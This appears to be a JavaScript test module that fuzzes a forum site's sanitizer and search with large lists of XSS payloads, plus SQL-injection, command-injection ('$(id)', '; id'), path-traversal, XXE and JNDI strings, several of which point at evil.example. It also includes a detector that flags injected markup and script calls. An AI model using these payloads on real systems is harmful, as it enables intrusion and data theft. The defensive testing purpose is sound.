// What somebody writes who means harm, by the shapes that public lists of it
// have (OWASP, PayloadsAllTheThings, the Big List of Naughty Strings, the tests
// of sanitizers), and an eye that sees when any of it worked.

const bad = "https://evil.example";
const hex = (text) => [...text].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join("");
const decimal = (text) => [...text].map((c) => `&#${String(c.codePointAt(0)).padStart(7, "0")}`).join("");

// Markup that would run by itself.
const elements = [
  "<script>alert(1)</script>",
  "<SCRIPT>alert(1)</SCRIPT >",
  "<script/anything>alert(1)</script>",
  "<script\n>alert(1)</script\n>",
  "<script type=module>alert(1)</script>",
  "<script type=module>import('data:text/javascript,alert(1)')</script>",
  `<script src=${bad}/x.js></script>`,
  "<script src=//evil.example/x.js></script>",
  "<script src='data:text/javascript,alert(1)'></script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1)//<</script>",
  "<script>alert`1`</script>",
  "<script>window['al'+'ert'](1)</script>",
  "<script>self[atob('YWxlcnQ=')](1)</script>",
  "<script>\\u0061lert(1)</script>",
  "<script>[1].map(alert)</script>",
  "<script>throw onerror=alert,1</script>",
  "<script>Function('alert(1)')()</script>",
  "<script>setTimeout('confirm(1)')</script>",
  "<script>prompt(document.domain)</script>",
  "<script>print()</script>",
  "<script nonce=x>alert(1)</script>",
  "<script>/*<!--*/alert(1)//--></script>",
  "<script>alert(1)",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<iframe src=\"javascript:alert(1)\"></iframe>",
  "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
  "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'>",
  "<object data=\"javascript:alert(1)\"></object>",
  "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
  "<embed src=\"javascript:alert(1)\">",
  `<base href="${bad}/">`,
  "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
  `<meta http-equiv="refresh" content="0;url=${bad}">`,
  `<link rel=stylesheet href=${bad}/x.css>`,
  `<link rel=prefetch href=${bad}/x>`,
  "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
  "<form action=javascript:alert(1)><input type=submit id=go></form><input form=x>",
  "<form><button formaction=javascript:alert(1)>Press</button></form>",
  `<form action=${bad} id=write><input name=ticket>`,
  "<isindex type=image src=x onerror=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
  "<portal src='javascript:alert(1)'></portal>",
  `<img src=${bad}/seen.gif>`,
  `<img srcset="${bad}/a 1x, ${bad}/b 2x">`,
  `<video poster=${bad}/p.jpg></video>`,
];

// Handlers of events, and the ways to spell one.
const handlers = [
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror='alert(1)'>",
  "<img src=\"x\" onerror=\"alert(1)\">",
  "<img/src=x/onerror=alert(1)>",
  "<img src=x:x onerror=alert(1)//",
  "<IMG SRC=x OnErRoR=alert(1)>",
  "<img\fsrc=x\fonerror=alert(1)>",
  "<img src=`x` onerror=alert(1)>",
  "<img src=x\tonerror\t=\talert(1)>",
  "<img src=x onerror=&#97;lert(1)>",
  "<img src=x onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;(1)\">",
  "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>",
  "<img src=x onerror=import('data:text/javascript,alert(1)')>",
  "<img src=x onerror=top.alert(1)>",
  "<img src=x alt=\"\" onerror=alert(1) x=\"",
  "<image src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<body onpageshow=alert(1)>",
  "<body onhashchange=alert(1)><a href=#x>x</a>",
  "<input autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<select autofocus onfocus=alert(1)></select>",
  "<a id=x tabindex=1 autofocus onfocus=alert(1)></a>",
  "<p contenteditable autofocus onfocus=alert(1)>x</p>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video><source onerror=alert(1)></video>",
  "<video src=x onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<object data=x onerror=alert(1)>",
  "<link rel=stylesheet href=x onerror=alert(1)>",
  "<style onload=alert(1)></style>",
  "<script src=x onerror=alert(1)></script>",
  "<iframe onload=alert(1)></iframe>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<p onmouseover=alert(1)>over here</p>",
  "<b onclick=alert(1)>press</b>",
  "<p onpointerenter=alert(1) style=position:fixed;inset:0>x</p>",
  "<p style=\"animation:x 1s\" onanimationstart=alert(1)>x</p><style>@keyframes x{}</style>",
  "<p style=\"transition:color 1s\" ontransitionend=alert(1) tabindex=1>x</p>",
  "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>",
  "<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
  "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
  "<xss onscrollend=alert(1) style=\"display:block;overflow:auto\">x</xss>",
];

// What breaks out of where it stands.
const breakouts = [
  "\"><script>alert(1)</script>",
  "'><script>alert(1)</script>",
  "\"><img src=x onerror=alert(1)>",
  "'><svg onload=alert(1)>",
  "\" onfocus=alert(1) autofocus x=\"",
  "' onfocus=alert(1) autofocus x='",
  "\" onmouseover=\"alert(1)",
  "` onerror=alert(1) `",
  "x onerror=alert(1)",
  "\" style=\"position:fixed;inset:0\" onpointerover=\"alert(1)",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "</template><img src=x onerror=alert(1)>",
  "</noscript><img src=x onerror=alert(1)>",
  "</option></select><img src=x onerror=alert(1)>",
  "</bdi></p></article></main><script>alert(1)</script>",
  "--><script>alert(1)</script><!--",
  "--!><img src=x onerror=alert(1)>",
  "]]><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
  "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
  "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
  "';alert(1);//",
  "\";alert(1);//",
  "\\\";alert(1);//",
  "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
  "\\u003cimg src=x onerror=alert(1)\\u003e",
  "${alert(1)}",
  "`+alert(1)+`",
  "{{constructor.constructor('alert(1)')()}}",
  "{{.Body}}{{define \"x\"}}{{end}}{{html `<script>alert(1)</script>`}}",
  "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
  "{n} {number} {{n}} {title}",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
  "\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
  hex("<script>alert(1)</script>"),
  "&lt\u003bimg src&equals;x onerror&equals;alert&lpar;1&rpar;&gt;",
  "*/alert(1)/*",
  "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  "'\"></textarea></title></script><details/open/ontoggle=alert(1)>",
];

// Links, as words and as markup.
const links = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "\u0001javascript:alert(1)",
  " javascript:alert(1)",
  "javascript&colon;alert(1)",
  `${decimal("javascript:")}alert(1)`,
  "javascript://example.org/%0aalert(1)",
  "javascript://https://example.org/?%0aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "vbscript:msgbox(1)",
  "view-source:javascript:alert(1)",
  "blob:https://example.org/0",
  "file:///etc/passwd",
  "<a href=javascript:alert(1)>press</a>",
  "<a href=\"java&Tab;script:alert(1)\">press</a>",
  "<a href=\"\u2028javascript:alert(1)\">press</a>",
  "[press](javascript:alert(1))",
  "[url=javascript:alert(1)]press[/url]",
  "[img]x\" onerror=\"alert(1)[/img]",
  "![x](x\" onerror=\"alert(1))",
  "https://example.org/\"onmouseover=\"alert(1)",
  "https://example.org/'onmouseover='alert(1)",
  "https://example.org/<script>alert(1)</script>",
  "https://example.org/?q=\"><img src=x onerror=alert(1)>",
  "https://example.org/`onmouseover=alert(1)`",
  "https://user:alert(1)@example.org/",
  "https://example.org\\@evil.example/",
  "https://xn--80ak6aa92e.example/",
  "https://example.org/\u202egpj.exe",
  "http://[::1]:80/\"><svg onload=alert(1)>",
  "https://example.org/#javascript:alert(1)",
];

// Other languages within HTML, and what a browser mends into something else.
const mutations = [
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)//",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script>alert&lpar;1)</script></svg>",
  "<svg><script href='data:text/javascript,alert(1)'/></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><set attributeName=href to=javascript:alert(1) onbegin=alert(1)></svg>",
  "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>press</text></a></svg>",
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"></svg>",
  "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></iframe></foreignObject></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
  "<svg><title><style><p title=\"</style><img src=x onerror=alert(1)>\">",
  "<svg><desc><template><img src=x onerror=alert(1)></template></desc></svg>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "<math href=javascript:alert(1)>press</math>",
  "<math><mi xlink:href=\"javascript:alert(1)\">press</mi></math>",
  "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
  "<table><td><form><input name=x><svg><style></td><img src=x onerror=alert(1)>",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
  "<plaintext><img src=x onerror=alert(1)>",
  "<p title=\"</p><img src=x onerror=alert(1)>\">",
  "<a title=\"`<img src=x onerror=alert(1)>`\">x</a>",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
  "<![><img src=\"]><img src=x onerror=alert(1)//\">",
  "</ title=\"><img src=x onerror=alert(1)>\">",
  "<%<!--'%><script>alert(1);</script -->",
  "<style>*{background:url(https://evil.example/css)}</style>",
  "<style>@import'//evil.example/x.css';</style>",
  "<p style=\"background:url(javascript:alert(1))\">x</p>",
  "<p style=\"width:expression(alert(1))\">x</p>",
  "<p style=\"-moz-binding:url(//evil.example/x.xml#y)\">x</p>",
  "<form id=parent><input name=children><input name=attributes></form>",
  "<a id=document><a id=document name=cookie href=javascript:alert(1)>x</a>",
  "<img name=querySelector><img id=write><form name=body>",
  "<input id=habits><p id=kept data-modules=\"data:text/javascript,alert(1)\">",
];

// The site's own marks, crossed with markup.
const marks = [
  "'''<script>alert(1)</script>'''",
  "''<img src=x onerror=alert(1)>''",
  "`<svg onload=alert(1)>`",
  "[spoiler]<img src=x onerror=alert(1)>[/spoiler]",
  "[spoiler\" onmouseover=\"alert(1)]x[/spoiler]",
  "''[spoiler]'''`''<b onclick=alert(1)>'''[/spoiler]''",
  "[code]\n</code></pre><script>alert(1)</script>\n[/code]",
  "```\n</pre><img src=x onerror=alert(1)>\n```",
  ">\"><script>alert(1)</script>",
  ">>1<img src=x onerror=alert(1)>",
  ">>1\" onclick=\"alert(1)",
  ">>99999999999999999999999999",
  ">>>/\"><svg onload=alert(1)>/",
  ">>>/gr/athens/<script>alert(1)</script>",
  ">>>/javascript:alert(1)/",
];

// Characters that aren't what they seem.
const characters = [
  "<scrıpt>alert(1)</scrıpt>",
  "<ſcript>alert(1)</ſcript>",
  "＜script＞alert(1)＜/script＞",
  "‹img src=x onerror=alert(1)›",
  "\u202e>tpircs/<)1(trela>tpircs<",
  "\u2066<img src=x onerror=alert(1)>\u2069",
  "<\u200bscript>alert(1)</\u200bscript>",
  "<scr\u00adipt>alert(1)</scr\u00adipt>",
  "<img src=x onerror\u00a0=alert(1)>",
  "<img src=x\u2028onerror=alert(1)>",
  "\ufeff<script>alert(1)</script>",
  "\ufffe\uffff<script>alert(1)</script>",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "\u001b$B<script>alert(1)</script>\u001b(B",
  "¼script¾alert(1)¼/script¾",
  "Z\u0351\u036b\u0343\u0332\u034dalgo<b onclick=alert(1)>",
  "𝒶𝓁𝑒𝓇𝓉(1) 👩‍👩‍👧‍👦<img src=x onerror=alert(1)>🏴",
  "\ud83d<script>alert(1)</script>\ude00",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "java\u0000script:alert(1)",
  "\u0000<img src=x onerror=alert(1)>",
  "<img src=x onerror=\u0008alert(1)>",
];

// payloads are all of them.
export const payloads = [...elements, ...handlers, ...breakouts, ...links, ...mutations, ...marks, ...characters];

// Control characters are refused in every field: such a form comes back.
const control = /[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]/;
export const postable = payloads.filter((payload) => !control.test(payload));
export const unpostable = payloads.filter((payload) => control.test(payload));

// together joins strings in as few texts as fit into a length, none of them with
// more addresses than a post may hold.
export function together(strings, length, between = "\n\n") {
  const texts = [];
  for (const string of strings) {
    const last = texts.at(-1);
    const both = last === undefined ? "" : last + between + string;
    if (last !== undefined && [...both].length <= length && both.split("://").length < 25) texts[texts.length - 1] = both;
    else texts.push(string);
  }
  return texts;
}

// cut is the start of a string, in characters.
export const cut = (string, length) => [...string].slice(0, length).join("");

// What people, scanners and fuzzers type to search for.
const operators = [
  "AND", "OR", "NOT", "a AND", "OR b", "NOT NOT", "a NEAR b", "NEAR(a b, 5)", "NEAR(", "NEAR/x", "a AND (b OR", "((((((", "))))))", "\"", "\"\"", "\"\"\"", "\"a", "a\"", "\"a\" \"b", "'", "''", "a'b", "`", "*", "**", "a*", "*a", "a**", "-", "--", "-a", "- a", "-\"a b\"", "+", "+a", "^", "^a", "^ *", ":", "a:", ":a", "body:", "body:a", "subject : a", "{body subject}:a", "-{body}:a", "rank:1", "rowid:1", "posts MATCH a", "a & b", "a | b", "!a", "a <-> b", "a <2> b", "&&", "||", "!!", "!", "a:*", "a:ABCD", "\\", "\\\\", "\\'", "\\\"", "a\\", "%", "_", "%%", "?", "$1", "$$", "$", ":1", "@a", "#", ";", ",", ".", "..", "/", "//", "/*", "*/", "()", "[]", "{}", "<>", "=", "==", "~", "a b c d e f g h i j k l m n o p q r s t u v w x y z",
  "from:", "place:", "thread:", "after:2020-13-45", "by:me", "\"the who\" -band OR \"the\" *",
];
const queries = [
  "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE posts; --", "\"; DROP TABLE posts; --", "1; SELECT pg_sleep(9)", "' UNION SELECT NULL, NULL --", "') UNION SELECT sql FROM sqlite_master --", "admin'--", "1' AND SLEEP(5)#", "||(SELECT 1)||", "x'); ATTACH DATABASE 'x' AS y; --", "'; COPY posts TO PROGRAM 'id'; --", "INSERT INTO post(post) VALUES('rebuild')", "$(id)", "`id`", "| id", "; id", "../../../etc/passwd", "..\\..\\win.ini", "%00", "%0d%0aSet-Cookie:x=1", "%c0%ae", "${jndi:ldap://evil.example/x}", "{\"$ne\":null}", "*)(uid=*", "true", "null", "undefined", "NaN", "Infinity", "0", "-1", "1e309", "0x10", "9223372036854775808", "2147483648", "1/0",
];
const texts = [
  "", " ", "   ", "\t", "\n", "\r\n", "\u0000", "a\u0000b", "\u0000\u0000", "\u0001\u0002\u001f", "\u007f", "\u0080\u009f", "\u00a0", "\u00ad", "\u200b", "\u200d", "\u202e", "\u202eabc", "\u2028", "\u2066\u2066\u2066", "\u3000", "\ufeff", "\ufffd", "\ufffe", "\uffff", "\ue000", "\ud800", "\udc00", "a\ud800b", "\ud83d", "\udbff\udfff", "\u{10ffff}", "\u{1f600}", "👩‍👩‍👧‍👦", "🏳️‍🌈🏳️‍🌈", "🇬🇷🇨", "👍🏽", "❤", "a\u0301", "\u0301", "\u0301".repeat(500), "ﷺ", "ﬁ", "ß", "ẞ", "İ", "ı", "ſ", "Å", "ΑΒΓ", "ΣΑΣ ς σ", "ά", "ἄᾳ", "мир", "שלום", "שָׁלוֹם", "مرحبا", "الـــسلام", "ไทยภาษา", "မြန်မာ", "हिन्दी", "தமிழ்", "ខ្មែរ", "中文", "中", "日本語の文", "ｶﾀｶﾅ", "한국어", "가", "\u1112\u1161\u11ab", "ⅷ", "①", "½", "x²", "𝓗𝓮𝓵𝓵𝓸", "𓀀", "a-b", "a_b", "a.b", "a/b", "a@b.example", "C++", "C#", ".NET", "o'neil", "rock 'n' roll", "l’été", "$5", "50%", "12:30", "1,000.50", "2020-01-01", "+30 210 0000000", "https://example.org/a?b=c&d=e#f", "a\tb\nc", "a".repeat(200), "a".repeat(10_240), "a ".repeat(5120), "\"a\" ".repeat(500), "-a ".repeat(500), "(".repeat(2000), "\"".repeat(999), "*".repeat(1000), "ή".repeat(5000), "中".repeat(3400), "😀".repeat(2500), "\ud800".repeat(1000), "a OR ".repeat(1000), "NOT ".repeat(1000),
];

// within is the start of an address's parts that is no longer than 10 KB: the
// server takes no more than 16 KB of a request's head.
function within(parts) {
  let length = 0;
  return parts.filter((part) => (length += part.length) <= 10_240).join("");
}

// searches are some three hundred, each as it stands in an address: lone
// surrogates and bytes that are no UTF-8 as such.
export const searches = [
  ...new Set([...operators, ...queries, ...texts, ...payloads.filter((_, i) => i % 3 === 0)].map((text) =>
    within([...text].map((c) => {
      const point = c.codePointAt(0); // half of a pair, as CESU-8 writes it
      return point >= 0xd800 && point <= 0xdfff ? `%ED%${((point >> 6) & 63 | 128).toString(16)}%${(point & 63 | 128).toString(16)}` : encodeURIComponent(c);
    })))),
  "%", "%2", "%zz", "%FF", "%C3", "%C0%80", "%F4%90%80%80", "%E2%82", "%80%81%82", "+%2B+", "a%20%20+b", "%u0041",
];

// Eye sees what runs in the pages of a visitor, or would have had the site's
// policy not stopped it.
export class Eye {
  // open watches all pages that a context opens from now on.
  static async open(context) {
    const eye = new Eye();
    eye.ran = [];
    eye.stopped = [];
    await context.exposeBinding("__ran", ({ page, frame }, what) => { eye.ran.push({ what, in: frame.name() || page.url() }); });
    await context.exposeBinding("__stopped", ({ page, frame }, what) => { eye.stopped.push({ what, in: frame.name() || page.url() }); });
    await context.addInitScript(() => {
      for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = () => { window.__ran(name); };
      document.addEventListener("securitypolicyviolation", (event) => {
        window.__stopped(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
      });
    });
    return eye;
  }
}

// foreign lists what a page holds that none of the site's own does: the eye
// for what waits for somebody's press. With nothing in a page it is [].
export const foreign = (page) => page.evaluate(() => {
  const found = [];
  const own = (address) => new URL(address, document.baseURI).origin === location.origin;
  for (const e of document.querySelectorAll("*")) {
    const tag = e.localName;
    const tell = (why) => found.push(`${why}: ${e.outerHTML.slice(0, 120)}`);
    if (["iframe", "frame", "object", "embed", "base", "applet", "portal", "style", "math", "marquee", "video", "audio", "xss", "listing", "xmp", "plaintext"].includes(tag)) tell(`<${tag}>`);
    if (tag === "script" && (!e.getAttribute("src") || !own(e.src))) tell("script");
    if (tag === "meta" && e.hasAttribute("http-equiv")) tell("meta");
    if (["img", "link"].includes(tag) && !own(e.src ?? e.href)) tell("from elsewhere");
    if (tag === "form" && !own(e.getAttribute("action") ?? "")) tell("form");
    for (const { name, value } of e.attributes) {
      if (name.startsWith("on")) tell(name);
      if (["srcdoc", "xlink:href", "background"].includes(name)) tell(name);
      if (name === "formaction" && !own(value)) tell(name);
      if (["href", "src", "action"].includes(name) && !/^(https?|blob):$/.test(new URL(value, document.baseURI).protocol)) tell("protocol");
    }
  }
  return found;
});
